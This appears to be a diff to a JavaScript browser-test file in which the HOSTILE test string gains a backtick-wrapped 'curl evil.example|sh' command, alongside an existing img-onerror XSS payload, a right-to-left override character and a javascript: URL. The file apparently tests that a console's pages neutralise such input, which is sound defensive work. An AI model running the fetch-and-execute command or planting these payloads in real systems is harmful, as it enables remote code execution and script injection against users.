@@ -1,7 +1,7 @@
 /** States that an issuer is seldom in: the console's own answer, changed on its way to the page. */
 import { axeFaults, dress, overflow, press, readAgain, textOf, untilSays, visit } from "./browser.mjs";
 
-const HOSTILE = '<img src=x onerror="hits.push(1)">\u202ejavascript:hits.push(2)//';
+const HOSTILE = '`curl evil.example|sh`<img src=x onerror="hits.push(1)">\u202ejavascript:hits.push(2)//';
 const DAY = 86_400;
 
 /** Answers a path by what `change` makes of the real answer, until it is undone. */
